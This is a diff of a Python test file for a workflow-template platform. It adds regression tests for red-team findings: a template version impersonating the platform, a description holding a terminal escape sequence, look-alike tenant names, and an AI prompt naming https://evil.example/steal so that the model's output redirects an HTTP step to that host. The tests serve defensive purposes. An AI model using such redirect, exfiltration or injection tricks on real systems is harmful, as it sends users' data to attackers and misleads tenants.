@@ -16,11 +16,15 @@ import asyncpg
 import pytest
 from sqlalchemy import text
 
+from app.api.relay import from_global_id
 from app.db import make_engine, make_sessionmaker
 from app.embedded.mail import DevMailSink
 from app.migrate import upgrade_async
 from app.settings import Settings
 from app.templates.catalog import capabilities_of, host_of
+from app.templates.lifecycle import checked_spec
+from app.templates.review import CatalogReview
+from app.templates.schemas import TemplateSpec
 from app.tenants.service import TenantService
 from tests.api.test_execution_flow import wait_terminal
 from tests.conftest import Services, TenantKeys, make_tenant
@@ -29,6 +33,7 @@ from tests.support import GraphQLClient
 from tests.templates.template_kit import (
     accept,
     approve,
+    deprecate,
     make_spec,
     op,
     publish,
@@ -36,6 +41,7 @@ from tests.templates.template_kit import (
     set_visibility,
     share,
     start,
+    unique_name,
     update_draft,
 )
 
@@ -363,15 +369,28 @@ async def test_operator_reviews_approves_and_rejects_with_the_cli(
     owner_keys, other = await make_tenant(sessions), await make_tenant(sessions)
     owner = GraphQLClient(server, owner_keys.admin)
     reader = GraphQLClient(server, other.viewer)
-    created = await published(owner, exfiltration_spec(f"report-{uuid.uuid4().hex[:6]}"), "PUBLIC")
+    spec = exfiltration_spec(f"report-{uuid.uuid4().hex[:6]}")
+    # The text every tenant would read (round 2, H1): the operator reviews it too, escaped
+    # so that it cannot forge lines or drive the terminal.
+    spec["description"] = "Collects the quarter's documents.\nno template waits\x1b[2J"
+    spec["tags"], spec["category"] = ["reports", "official"], "finance"
+    created = await published(owner, spec, "PUBLIC")
     template_id = created["id"]
     pk = str(await _pk(sessions, owner_keys.name, created["name"]))
 
     code, out, err = await wfs(settings.database_url, tmp_path, "template", "reviews")
     assert code == 0, err
-    [line] = [line for line in out.splitlines() if pk in line]
-    assert f"{owner_keys.name}/{created['name']}  v1" in line
-    assert "email.send" in line and "sends mail" in line and "reads files" in line
+    lines = out.splitlines()
+    [at] = [i for i, line in enumerate(lines) if pk in line]
+    assert f"{owner_keys.name}/{created['name']}  v1" in lines[at]
+    assert "email.send" in lines[at] and "sends mail" in lines[at] and "reads files" in lines[at]
+    assert lines[at + 1 : at + 5] == [
+        "    title: 'Quarterly report'",
+        '    description: "Collects the quarter\'s documents.\\nno template waits\\x1b[2J"',
+        "    tags: ['reports', 'official']",
+        "    category: 'finance'",
+    ]
+    assert "\x1b" not in out
 
     code, out, err = await wfs(
         settings.database_url,
@@ -524,3 +543,217 @@ async def test_no_tenant_takes_the_platforms_publisher_name(sessions: Any, name:
     async with sessions() as session:
         with pytest.raises(Conflict, match="platform's own publisher name"):
             await TenantService(session).create_tenant(name, "free")
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["workflow\u2010service", "workflow-serv\u0456ce", "workflow-service\u200b", "acme/x", "Acme"],
+)
+async def test_tenant_names_are_plain_ascii_so_no_publisher_looks_like_another(
+    sessions: Any, name: str
+) -> None:
+    from app.errors import ValidationFailed
+
+    async with sessions() as session:
+        with pytest.raises(ValidationFailed, match="lower-case letters"):
+            await TenantService(session).create_tenant(name, "free")
+
+
+# -- round 2: what the catalog shows is what was reviewed -----------------------------------
+
+FILTERED = """query($search: String, $tags: [String!], $category: String) {
+  templates(search: $search, tags: $tags, category: $category, first: 50) {
+    edges { node { id title } } } }"""
+
+
+async def found_by(client: GraphQLClient, **criteria: Any) -> set[str]:
+    data = await client.data(FILTERED, criteria)
+    return {e["node"]["id"] for e in data["templates"]["edges"]}
+
+
+async def test_unreviewed_and_rejected_text_never_reaches_the_catalog(
+    server: str, sessions: Any
+) -> None:
+    """Red team round 2 (H1): v2 of an approved public template renamed itself "Order Summary
+    (official, verified...)"; while PENDING and even after REJECTED, every tenant read and
+    searched v2's title, description, tags and category, though only v1 was offered."""
+    publisher, other = await make_tenant(sessions), await make_tenant(sessions)
+    owner = GraphQLClient(server, publisher.admin)
+    reader = GraphQLClient(server, other.viewer)
+    marker = f"impostor{uuid.uuid4().hex[:8]}"
+    v1 = make_spec(
+        f"ordersum-{uuid.uuid4().hex[:6]}",
+        title="Order summary helper",
+        description="Totals line items.",
+        tags=["orders"],
+        category="finance",
+    )
+    template_id = (await published(owner, v1, visibility="PUBLIC"))["id"]
+    await approve(sessions, template_id, 1)
+    listing_v1 = ("Order summary helper", "Totals line items.", ["orders"], "finance")
+
+    async def listing() -> tuple[Any, ...]:
+        t = await details(reader, template_id)
+        return t["title"], t["description"], t["tags"], t["category"]
+
+    v2 = {
+        **v1,
+        "title": "Order Summary (official, verified by workflow-service)",
+        "description": f"The official workflow-service order-summary template. {marker}",
+        "tags": ["official", "verified"],
+        "category": "platform",
+    }
+    assert (await update_draft(owner, template_id, v2))["__typename"] == "Template"
+    assert (await publish(owner, template_id))["__typename"] == "Template"
+
+    async def v2_text_is_hidden() -> None:
+        assert await listing() == listing_v1
+        assert template_id not in await found_by(reader, search=marker)
+        assert template_id not in await found_by(reader, search="official verified")
+        assert template_id not in await found_by(reader, tags=["verified"])
+        assert template_id not in await found_by(reader, category="platform")
+        assert template_id in await found_by(reader, search="order summary helper")
+
+    await v2_text_is_hidden()  # PENDING
+    # The owner still reads each version's own text.
+    mine = await owner.data(op("TemplateVersions"), {"id": template_id, **_versions(2)})
+    assert mine["template"]["version"]["spec"]["title"] == v2["title"]
+
+    async with sessions() as session:
+        pk = from_global_id(template_id, "Template")[1]
+        await CatalogReview(session).reject(pk, 2, "impersonates the platform")
+        await session.commit()
+    await v2_text_is_hidden()  # REJECTED
+
+    # Approval is what moves the listing: v3's text once v3 is approved, not before.
+    v3 = {**v1, "title": "Order totals", "description": "Sums line items.", "tags": ["sums"]}
+    assert (await update_draft(owner, template_id, v3))["__typename"] == "Template"
+    assert (await publish(owner, template_id))["__typename"] == "Template"
+    assert await listing() == listing_v1
+    await approve(sessions, template_id, 3)
+    assert await listing() == ("Order totals", "Sums line items.", ["sums"], "finance")
+    assert template_id in await found_by(reader, search="order totals")
+    assert template_id not in await found_by(reader, search="order summary helper")
+
+
+# -- round 2: capabilities tell where calls go and whether AI runs ----------------------------
+
+AI_URL_POINT = {
+    "task": "generate_text",
+    "min_tier": "free",
+    "fallback": "plain",
+    "input": {"prompt_template": "x\n\nhttps://evil.example/steal?d=1"},
+    "apply": {"url": "text"},
+}
+
+
+def _step(activity: str, step_input: dict[str, Any], *points: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "name": f"caps-{uuid.uuid4().hex[:6]}",
+        "title": "caps",
+        "steps": [
+            {"id": "s", "activity": activity, "input": step_input, "enhancements": list(points)}
+        ],
+    }
+
+
+def test_a_url_an_enhancement_point_may_set_is_any_host() -> None:
+    """Red team round 2 (M1): the AI's output replaced the url of a step whose capabilities
+    said it called api.example.com; the run went to the host the prompt named."""
+    literal = {"method": "GET", "url": "https://api.example.com/ok"}
+    spec = checked_spec(_step("http.request", literal, AI_URL_POINT))
+    found = capabilities_of(spec.model_dump(mode="json"))
+    assert found.calls_hosts == ["*"] and found.uses_ai
+    # A dotted target that starts at url is the url too; other fields keep the literal host.
+    dotted = capabilities_of(
+        _step("http.request", literal, {**AI_URL_POINT, "apply": {"url.x": "text"}})
+    )
+    assert dotted.calls_hosts == ["*"]
+    headers = {**AI_URL_POINT, "apply": {"headers.X-Note": "text"}}
+    assert capabilities_of(_step("http.request", literal, headers)).calls_hosts == [
+        "api.example.com"
+    ]
+    # A point the worker never runs (no input) cannot move the call.
+    idle = {k: v for k, v in AI_URL_POINT.items() if k != "input"}
+    assert capabilities_of(_step("http.request", literal, idle)).calls_hosts == ["api.example.com"]
+    # Recipients chosen by the AI: still mail (the flag says any recipient is possible).
+    mail = {"to": ["a@example.com"], "subject": "s", "text": "t"}
+    to_point = {**AI_URL_POINT, "apply": {"to": "text"}}
+    assert capabilities_of(_step("email.send", mail, to_point)).sends_mail
+
+
+@pytest.mark.parametrize(
+    "point",
+    [
+        {"input": {}, "apply": {"data": "text"}},  # round 2 (L1): empty input still runs
+        {"input": {"prompt_template": "x"}, "apply": {"data": "text"}},
+        {"apply": {"data": "text"}},
+        {"input": {"prompt_template": "x"}},
+        {"input": {"prompt_template": "x"}, "apply": {}},
+        {},  # a point with neither: the plain path only
+    ],
+)
+def test_uses_ai_is_the_workers_own_rule_for_an_active_point(point: dict[str, Any]) -> None:
+    """usesAi says whether the worker will run the point's AI task: the same spec, planned as
+    the worker gets it, is active for workers.enhancements.active_points exactly when usesAi.
+    (Validation refuses some of these shapes today; stored versions and the worker do not.)"""
+    from workers.enhancements import active_points
+
+    full = {"task": "generate_text", "min_tier": "free", "fallback": "plain", **point}
+    spec = TemplateSpec.model_validate(_step("data.transform", {"data": {"t": "plain"}}, full))
+    [plan] = spec.plan(default_timeout=30, default_attempts=1)
+    assert capabilities_of(spec.model_dump(mode="json")).uses_ai == bool(active_points(plan))
+
+
+# -- round 2: a retry is a run like a start ---------------------------------------------------
+
+RETRY = """mutation($id: ID!) { retryExecution(id: $id) {
+  __typename ... on Execution { id status } ... on UserError { code message } } }"""
+FAILING_READ = {
+    "title": "Read an order",
+    "parameters": {"type": "object"},
+    "steps": [{"id": "read", "activity": "files.read", "input": {"path": "inbox/absent.json"}}],
+    "example_params": {},
+}
+
+
+async def test_retrying_another_publishers_version_needs_what_a_start_needs(
+    server: str, sessions: Any
+) -> None:
+    """Red team round 2 (L3): after the publisher withdrew its template (deprecated, no longer
+    shared), a new start was NOT_FOUND but retryExecution ran the old version again in the
+    runner's tenant. Now a retry is refused whenever a start of that version would be."""
+    publisher, runner = await make_tenant(sessions), await make_tenant(sessions)
+    owner = GraphQLClient(server, publisher.admin)
+    admin = GraphQLClient(server, runner.admin)
+    template_id = (await published(owner, {"name": unique_name("read"), **FAILING_READ}))["id"]
+    await share(owner, template_id, [runner.name])
+    await accept(admin, template_id, 1)
+    started = await start(admin, templateId=template_id)
+    assert started["__typename"] == "Execution", started
+    assert (await wait_terminal(admin, started["id"]))["status"] == "FAILED"
+
+    async def retry() -> dict[str, Any]:
+        return (await admin.data(RETRY, {"id": started["id"]}))["retryExecution"]
+
+    async def runs() -> int:
+        execution = await wait_terminal(admin, started["id"])
+        return sum(e["type"] == "RETRIED" for e in execution["events"])
+
+    # While the accepted version may start, it may be retried.
+    assert (await retry())["__typename"] == "Execution"
+    assert await runs() == 1
+    # The admin moved the acceptance to v2: v1 no longer runs in this tenant.
+    changed = {**FAILING_READ, "title": "Read an order, v2"}
+    name = (await details(owner, template_id))["name"]
+    assert (await update_draft(owner, template_id, {"name": name, **changed}))["__typename"]
+    assert (await publish(owner, template_id))["__typename"] == "Template"
+    await accept(admin, template_id, 2)
+    moved = await retry()
+    assert moved["code"] == "CONFLICT" and "accepts version 2" in moved["message"], moved
+    # Deprecated v2 and no longer shared: a start is NOT_FOUND, and so is the retry.
+    await deprecate(owner, template_id, 2)
+    await set_visibility(owner, template_id, "PRIVATE")
+    assert (await start(admin, templateId=template_id))["code"] == "NOT_FOUND"
+    assert (await retry())["code"] == "NOT_FOUND"
+    assert await runs() == 1  # nothing ran again
